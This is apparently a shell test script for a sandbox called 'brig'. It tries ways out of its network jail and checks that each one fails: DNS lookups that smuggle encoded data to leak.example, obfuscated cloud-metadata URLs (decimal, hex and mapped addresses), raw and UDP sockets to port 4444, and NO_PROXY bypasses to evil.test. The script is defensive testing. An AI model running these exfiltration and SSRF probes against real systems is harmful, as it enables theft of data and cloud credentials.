#!/bin/sh
# Attacks on the network: ways out of the jail that are not HTTP.  Runs in a
# network namespace of its own, where addresses that stand for the internet,
# the metadata service and a DNS resolver really answer.
# shellcheck disable=SC2016
if [ "${BRIG_IN_NETNS-}" != 1 ] && [ "$(id -u)" = 0 ]; then
    BRIG_IN_NETNS=1
    export BRIG_IN_NETNS
    exec unshare --net --mount --propagation private -- "$0" "$@"
fi
# shellcheck source=lib.sh
. "$BRIG_SRCDIR/tests/attack/lib.sh"

# 192.0.2.10 is "a host on the internet", 192.0.2.53 the resolver.
ip link set lo up
for a in 192.0.2.10/32 192.0.2.53/32 169.254.169.254/32 10.9.8.7/32; do
    ip addr add "$a" dev lo
done
ip -6 addr add fd00:ec2::254/128 dev lo 2>/dev/null || :
setup_resolv=$(mktemp)
echo "nameserver 192.0.2.53" >"$setup_resolv"
mount --bind "$setup_resolv" "$(readlink -f /etc/resolv.conf)"
rm -f "$setup_resolv"

attack_setup attack-network \
    'allow http GET http://169.254.169.254/**;' \
    'allow http GET http://meta.test/**;' \
    'allow http GET http://10.9.8.7/**;' \
    'allow http GET https://known.example/**;'

# One listener for everything: TCP and UDP on the outside address, DNS on the
# resolver's, HTTP on the metadata service's.  Writes what it gets to a file.
cat >"$T/world.py" <<'EOF'
import select, socket, struct, sys
log = open(sys.argv[1], 'a', buffering=1)
socks = {}
def add(kind, addr, port, name, fam=socket.AF_INET):
    s = socket.socket(fam, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind((addr, port))
    except OSError as e:
        log.write(f'absent {name} {e}\n')
        return
    if kind == socket.SOCK_STREAM:
        s.listen(20)
    socks[s] = name
for port in (22, 53, 443, 853, 4444):
    add(socket.SOCK_STREAM, '192.0.2.10', port, f'tcp-{port}')
    add(socket.SOCK_DGRAM, '192.0.2.10', port, f'udp-{port}')
add(socket.SOCK_DGRAM, '192.0.2.53', 53, 'dns')
for a in ('169.254.169.254', '10.9.8.7'):
    add(socket.SOCK_STREAM, a, 80, f'http-{a}')
add(socket.SOCK_STREAM, 'fd00:ec2::254', 80, 'http-v6', socket.AF_INET6)
log.write('ready\n')
while True:
    for s in select.select(list(socks), [], [])[0]:
        name = socks[s]
        if s.type == socket.SOCK_DGRAM:
            data, peer = s.recvfrom(4096)
            log.write(f'{name} {data!r}\n')
            if name == 'dns':      # NXDOMAIN
                s.sendto(data[:2] + b'\x81\x83' + data[4:6] + b'\0' * 6 + data[12:], peer)
            continue
        c, _ = s.accept()
        c.settimeout(2)
        try:
            data = c.recv(4096)
            log.write(f'{name} {data!r}\n')
            c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 13\r\nConnection: close\r\n\r\nMETADATA-HERE')
        except OSError:
            log.write(f'{name} connected\n')
        c.close()
EOF
background python3 "$T/world.py" "$T/world.log"
wait_for 5 grep -q ready "$T/world.log"
saw() { grep -qF -e "$1" "$T/world.log"; }
not_saw() { if grep -F -e "$1" "$T/world.log"; then return 1; fi; }
probe=$T/ws/brig-probe

# 35: names as a channel.
outside getent hosts control-35.leak.example
check "35 control: the resolver of the host is there and sees names" saw control-35
job 'getent hosts c2VjcmV0LWRhdGE.leak.example
getent hosts known.example
python3 -c "
import socket
q = bytes([0x12,0x34,1,0,0,1,0,0,0,0,0,0]) + bytes([6]) + b\"txt-35\" + bytes([4]) + b\"leak\" + bytes([7]) + b\"example\" + bytes([0,0,16,0,1])
for ip in (\"192.0.2.53\", \"192.0.2.10\", \"127.0.0.53\", \"8.8.8.8\"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(q, (ip, 53))
    try: print(ip, s.recv(500))
    except OSError as e: print(ip, e)
"
curl -sS -m 10 https://curl-35.leak.example/'
check "35 control: names do resolve in the jail, to synthetic addresses" \
    grep -qE '^(198\.1[89]\.|fd)' "$T/job.out"
check "35 a name outside the policy never reaches a resolver" not_saw leak.example
check "35 nor does an allowed one that nobody connects to" not_saw known
check "35 nor a TXT query sent to the resolver's own address" not_saw txt-35
job 'curl -sS -m 10 https://known.example/'
check "35 control: an allowed name is resolved once it is connected to" \
    wait_for 5 saw known

# 38: metadata, loopback and private addresses, though policy allows the URL.
outside curl -sS -m 5 http://169.254.169.254/38-control
check "38 control: the metadata service answers on the host" \
    grep -q METADATA-HERE "$T/outside.out"
outside curl -sS -m 5 http://10.9.8.7/38-control
check "38 control: so does the private address" \
    grep -q METADATA-HERE "$T/outside.out"
job 'for u in http://169.254.169.254/a38 http://meta.test/a38-name \
    http://10.9.8.7/a38-private "http://[fd00:ec2::254]/a38-v6" \
    "http://[::ffff:169.254.169.254]/a38-mapped" http://2852039166/a38-dec \
    http://0xa9fea9fe/a38-hex http://0.0.0.0/a38-zero; do
    curl -sS -m 10 -g "$u"; echo; done'
check "38 the job gets nothing from any of them" job_does_not_say METADATA-HERE
check "38 and nothing arrives there" not_saw "/a38"
check "38 it is told why" job_says '"error"'
check "38 and it is recorded" audited NT401 169.254.169.254

# 39: everything that is not TCP with TLS or HTTP in it.
outside "$probe" udp 192.0.2.10 443 control-39-udp
outside "$probe" tcp 192.0.2.10 4444 control-39-tcp
check "39 control: UDP to the outside host arrives" wait_for 3 saw control-39-udp
check "39 control: TCP to the outside host arrives" wait_for 3 saw control-39-tcp
job '/workspace/brig-probe udp 192.0.2.10 443 mark-39-quic
/workspace/brig-probe udp 192.0.2.10 4444 mark-39-udp
timeout 8 /workspace/brig-probe tcp 192.0.2.10 4444 mark-39-tcp
timeout 8 /workspace/brig-probe tcp 192.0.2.10 22 mark-39-ssh
timeout 8 /workspace/brig-probe tfo 192.0.2.10 443 mark-39-tfo
ping -c 1 -W 1 -p 6d61726b 192.0.2.10 2>&1'
check "39 UDP, raw TCP, port 22 and TCP fast open: nothing arrives" not_saw mark-39
check "39 dropped datagrams are recorded" audited NT4 192.0.2.10
outside "$probe" raw
check "39 control: a raw socket can be had on the host" grep -q worked "$T/outside.out"
for s in raw mptcp sctp; do
    if "$probe" $s >/dev/null 2>&1; then
        job "/workspace/brig-probe $s" || :
        check "39 no $s socket in the jail" job_does_not_say worked
    else
        skip "39 no $s socket in the jail" "this kernel has none"
    fi
done

# 40: address families.
for f in 40 16 17 38 31 30 42 15; do
    if "$probe" family $f >/dev/null 2>&1; then
        job "/workspace/brig-probe family $f" || :
        check "40 no socket of family $f in the jail" job_does_not_say worked
    else
        skip "40 no socket of family $f in the jail" "this kernel has none"
    fi
done

# 41: abstract sockets of the host.
background python3 -c '
import socket, time
s = socket.socket(socket.AF_UNIX)
s.bind("\0brig-attack-41")
s.listen(5)
time.sleep(120)'
check "41 control: the abstract socket answers on the host" wait_for 10 \
    sh -c '"$0" abstract brig-attack-41 | grep -q worked' "$probe"
job '/workspace/brig-probe abstract brig-attack-41'
check "41 and is not there in the jail" job_does_not_say worked

# 44: a client that is told to use no proxy, or never heard of one.
direct_curl evil.test "$EVIL" -k "https://evil.test:$EVIL/a44-control"
check "44 control: the origin answers on the host" reached evil.test /a44-control
job "env -u http_proxy -u https_proxy NO_PROXY='*' no_proxy='*' \
    curl -sS -m 10 -k https://denied.example:$EVIL/a44-denied
NO_PROXY='*' curl -sS -m 10 -k --resolve denied.test:$EVIL:127.0.0.1 \
    https://denied.test:$EVIL/a44-loopback
NO_PROXY='*' curl -sS -m 10 -k --resolve denied.test:$EVIL:192.0.2.10 \
    https://denied.test:$EVIL/a44-address
NO_PROXY='*' curl -sS -m 10 https://evil.test:$EVIL/a44-allowed"
check "44 what policy allows works without any proxy variable" \
    reached evil.test /a44-allowed
for w in denied loopback address; do
    check "44 NO_PROXY opens nothing ($w)" not_reached evil.test "/a44-$w"
done

# 48: brig's own sockets.
outside brig --socket "$T/run/brigd.sock" status
check "48 control: the control socket answers on the host" test -s "$T/outside.out"
outside "$probe" unix "$T/run/brigd.sock"
check "48 control: and takes connections" grep -q worked "$T/outside.out"
job "/workspace/brig-probe unix $T/run/brigd.sock
ls $T/run /run/brig /var/run 2>&1
for p in 1 22 80 3128 $GOOD $EVIL; do
    /workspace/brig-probe tcp 127.0.0.1 \$p a48-\$p
done"
check "48 the control socket is not there in the jail" \
    job_does_not_say "connect socket path: worked"
check "48 nor anything that listens on the host's loopback" \
    not_reached good.test a48-
attack_end
